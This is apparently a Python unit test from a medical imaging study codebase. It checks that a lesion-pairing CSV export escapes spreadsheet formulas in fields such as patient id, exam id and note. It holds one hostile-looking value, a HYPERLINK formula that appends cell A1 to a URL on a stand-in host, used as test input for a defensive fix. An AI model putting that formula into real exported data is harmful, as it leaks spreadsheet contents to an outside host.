"""Session 41: `study reads`' OUT-pairing.csv was written by pandas' own CSV writer, the one table of the project that did
not go through the cell rule (annotation.cells): a patient id the images gave, such as ``=HYPERLINK("http://x")``,
reached the spreadsheet that opens it as a formula. It is escaped as in every other table now."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd

from analysis.study_pairing import CasePairing, LesionPair, write_pairing_table
from annotation.study import StudyCase

HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"open")'


def test_a_formula_in_a_patient_id_is_escaped_in_the_pairing_table(tmp_path: Path) -> None:
    case = StudyCase("C01", HOSTILE, "+E1")
    pairing = CasePairing("R1", case, "MRI", "CT", (LesionPair("L1", "L2", 1.5, confirmed=True),), ("L3",), (),
                          note="-1 lesion unpaired", confirmed_by="consensus at 2026-12-04T09:27:06+00:00")
    path = tmp_path / "reads-pairing.csv"
    write_pairing_table([pairing], path)
    with open(path, encoding="utf-8", newline="") as f:
        header, row = list(csv.reader(f))
    cells = dict(zip(header, row))
    assert cells["patient_id"] == "'" + HOSTILE and cells["exam_pair_id"] == "'+E1"
    assert cells["note"] == "'-1 lesion unpaired"
    assert (cells["paired"], cells["first_only"], cells["confirmed"]) == ("1", "1", "true")
    read = pd.read_csv(path, keep_default_na=False)  # what the tests and researchers read it with
    assert str(read["confirmed"][0]) == "True" and read["first_lesions"][0] == 2
